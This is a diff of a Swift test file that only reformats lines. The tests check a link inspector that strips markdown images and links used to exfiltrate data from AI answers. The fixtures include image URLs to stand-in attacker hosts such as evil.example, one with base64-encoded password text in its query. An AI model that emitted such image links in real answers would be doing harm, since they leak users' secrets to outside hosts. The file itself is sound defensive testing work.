@@ -10,12 +10,17 @@ import Testing
         let result = inspector.inspect(answer)
         #expect(!result.text.contains("collect.evil.example/p.png"))
         #expect(result.text.contains("[image removed: status (collect.evil.example)]"))
-        #expect(result.findings.contains(LinkFinding(kind: .imageExfiltration, host: "collect.evil.example", neutralized: true)))
+        #expect(
+            result.findings.contains(
+                LinkFinding(kind: .imageExfiltration, host: "collect.evil.example", neutralized: true)
+            )
+        )
         #expect(result.status == .complete)
     }
 
     @Test func allowListedImagesPass() {
-        let answer = "Logo: ![logo](https://cdn.acme.example/logo.png?v=20240101abcdef12345) and ![x](https://img.acme.example/a.png)"
+        let answer =
+            "Logo: ![logo](https://cdn.acme.example/logo.png?v=20240101abcdef12345) and ![x](https://img.acme.example/a.png)"
         let result = inspector.inspect(answer)
         #expect(result.text == answer)
         #expect(result.findings.isEmpty)
@@ -59,11 +64,12 @@ import Testing
         let result = inspector.inspect("See \(example.0) now.")
         #expect(result.findings.contains { $0.kind == example.1 && $0.neutralized }, "\(result.findings)")
         #expect(result.text.contains("[link removed: "))
-        #expect(!result.text.contains("](") )
+        #expect(!result.text.contains("]("))
     }
 
     @Test func ordinaryLinksAndTextAreKept() {
-        let answer = "Read [the docs](https://www.swift.org/documentation/) or https://acme.example/help?topic=billing-faq-and-invoices. [1] is a citation."
+        let answer =
+            "Read [the docs](https://www.swift.org/documentation/) or https://acme.example/help?topic=billing-faq-and-invoices. [1] is a citation."
         let result = inspector.inspect(answer)
         #expect(result.text == answer)
         #expect(result.findings.isEmpty)
@@ -88,7 +94,11 @@ import Testing
 
     // MARK: streaming
 
-    func stream(_ chunks: [String], _ inspector: LinkInspector, window: Int = 4096) -> (text: String, parts: [String], findings: [LinkFinding]) {
+    func stream(
+        _ chunks: [String],
+        _ inspector: LinkInspector,
+        window: Int = 4096
+    ) -> (text: String, parts: [String], findings: [LinkFinding]) {
         var s = StreamingAnswerInspector(inspector: inspector, window: window)
         var parts = chunks.map { s.feed($0) }
         parts.append(s.finish())
@@ -96,7 +106,8 @@ import Testing
     }
 
     @Test func exfiltratingImageSplitAtEveryPointIsNeutralized() {
-        let answer = "Here is the summary. ![chart](https://evil.example/c.png?d=QWxpY2UncyBwYXNzd29yZCBpcyBodW50ZXIy) Thanks!"
+        let answer =
+            "Here is the summary. ![chart](https://evil.example/c.png?d=QWxpY2UncyBwYXNzd29yZCBpcyBodW50ZXIy) Thanks!"
         let expected = inspector.inspect(answer).text
         let bytes = Array(answer.utf8)
         for cut in 1..<bytes.count {
